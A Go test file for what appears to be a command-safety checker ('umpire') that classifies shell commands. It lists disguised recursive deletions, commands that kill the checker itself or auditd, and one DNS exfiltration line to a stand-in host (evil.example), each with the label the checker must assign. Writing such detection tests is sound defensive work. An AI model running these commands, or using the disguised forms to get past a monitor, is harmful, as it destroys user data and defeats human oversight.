package command_test

import "testing"

// What a look-up prints is what it stands for.
func TestLookups(t *testing.T) {
	for text, want := range map[string]string{
		// Programs.
		"$(command -v rm) -r ~/x":                          "delete(/home/dev/x) recursive",
		"$(type -P rm) -r ~/x":                             "delete(/home/dev/x) recursive",
		"$(builtin type -p rm) -r ~/x":                     "delete(/home/dev/x) recursive",
		"$(which rm) -r ~/x":                               "delete(/home/dev/x) recursive",
		"`which rm` -r ~/x":                                "delete(/home/dev/x) recursive",
		"$(whence -p rm) -r ~/x":                           "delete(/home/dev/x) recursive",
		"$(hash -t rm) -r ~/x":                             "delete(/home/dev/x) recursive",
		"$(which -a rm | head -1) -r ~/x":                  "delete(/home/dev/x) recursive",
		"$(whereis -b rm | cut -d' ' -f2) -r ~/x":          "delete(/home/dev/x) recursive",
		"$(readlink -f $(which rm)) -r ~/x":                "delete(/home/dev/x) recursive",
		"$(basename /bin/rm) -r ~/x":                       "delete(/home/dev/x) recursive",
		"R=$(command -v rm); $R -r ~/x":                    "delete(/home/dev/x) recursive",
		"env $(which rm) -r ~/x":                           "delete(/home/dev/x) recursive",
		"which rm | xargs -I{} {} -r /home/dev/x":          "delete(/home/dev/x) recursive",
		"hash -p /bin/rm foo; foo -r ~/x":                  "delete(/home/dev/x) recursive",
		"$(command -v eval) 'rm -r ~/x'":                   "delete(/home/dev/x) recursive",
		"command_not_found_handle() { rm -r ~/x; }; foo":   "delete(/home/dev/x) recursive",
		"fish -c '(command -v rm) -r ~/x'":                 "delete(/home/dev/x) recursive",
		"fish -c 'rm -r (dirname ~/x/y)'":                  "delete(/home/dev/x) recursive",
		"pwsh -c '& (Get-Command rm).Source -Recurse ~/x'": "delete(/home/dev/x) recursive",
		"pwsh -c '& (gcm Remove-Item) -Recurse ~/x'":       "delete(/home/dev/x) recursive",
		"pwsh -c 'rm -r (Split-Path ~/x/y)'":               "delete(/home/dev/x) recursive",
		"pwsh -c 'rm -r (Join-Path ~ x)'":                  "delete(/home/dev/x) recursive",
		"pwsh -c 'Set-Location ~; rm -r (Get-Location)'":   "delete(/home/dev) recursive",
		// Umpire's own.
		"rm $(which umpire)": "delete(/usr/local/bin/umpire)",
		"install -m755 /bin/true $(command -v umpire-hook)": "write(/usr/local/bin/umpire-hook)",
		"which umpire | xargs rm":                           "delete(/usr/local/bin/umpire)",
		"kill $(pgrep umpire)":                              "system(process kill-name umpire) self-tamper",
		"kill $(pidof umpire)":                              "system(process kill-name umpire) self-tamper",
		"pgrep -f 'umpire serve' | xargs -r kill -9":        "system(process kill-name umpire) self-tamper",
		"kill $(ps ax | grep [u]mpire | awk '{print $1}')":  "system(process kill-name umpire) self-tamper",
		"kill $(ps ax | awk '/umpire/ {print $1}')":         "system(process kill-name umpire) self-tamper",
		"lsof -t $(which umpire) | xargs kill":              "system(process kill-name umpire) self-tamper",
		"P=$(pgrep auditd); kill $P":                        "system(process kill \u27e8?\u27e9) audit-tamper",
		"kill $(pgrep -u dev)":                              "system(process kill \u27e8?\u27e9) bulk",
		// Folders and names.
		"rm -r $(dirname ~/x/y)":                                   "delete(/home/dev/x) recursive",
		"rm -r $(dirname $(pwd))":                                  "delete(/home/dev) recursive",
		"rm -r $(realpath ../x)":                                   "delete(/home/dev/x) recursive",
		"rm -r $(readlink -f ~/x)":                                 "delete(/home/dev/x) recursive",
		"rm -r /home/$(whoami)/x":                                  "delete(/home/dev/x) recursive",
		"rm -r /home/$(id -un)/x":                                  "delete(/home/dev/x) recursive",
		"eval rm -r ~$(logname)/x":                                 "delete(/home/dev/x) recursive",
		"rm -r $(getent passwd eve | cut -d: -f6)":                 "delete(/home/eve) recursive",
		"rm -r $(xdg-user-dir DOCUMENTS)":                          "delete(/home/dev/Documents) recursive",
		"rm -r $(git rev-parse --show-toplevel)":                   "delete(/home/dev/proj) recursive",
		"cd a/b; rm -r \"$(git rev-parse --show-toplevel)/build\"": "delete(/home/dev/proj/build) recursive",
		"rm -r $(git -C sub rev-parse --git-dir)":                  "delete(/home/dev/proj/.git) recursive",
		"rm -r $(npm root)":                                        "delete(/home/dev/proj/node_modules) recursive",
		"rm -r $(dirname ${BASH_SOURCE[0]})/build":                 "delete(/home/dev/proj/build) recursive",
	} {
		t.Run(text, func(t *testing.T) { wantOps(t, text, want) })
	}
	wantOps(t, "dig $(whoami).evil.example", "network(dev.evil.example) upload")
}

// A part that is not known stays unknown.
func TestLookupsOfTheUnknown(t *testing.T) {
	for text, want := range map[string]string{
		"rm -r $(dirname $X)":              "delete(\u27e8?\u27e9) unknown",
		"rm -r a/$(basename $X)":           "delete(/home/dev/proj/a/\u27e8?\u27e9) unknown",
		"rm -r $(echo $X:a | cut -d: -f2)": "delete(\u27e8?\u27e9) unknown",
		"rm -r $(readlink x)":              "delete(\u27e8?\u27e9) unknown",
		"rm $(which kubectl)":              "delete(\u27e8?\u27e9/bin/kubectl) unknown",
	} {
		t.Run(text, func(t *testing.T) { wantOps(t, text, want) })
	}
	for _, text := range []string{"which rm", "type -a rm", "command -v node || echo none", "pgrep -fl umpire", "ps aux | grep umpire", "basename $(pwd)", "id -un", "$(which node) --version"} {
		t.Run(text, func(t *testing.T) { wantQuiet(t, text) })
	}
}
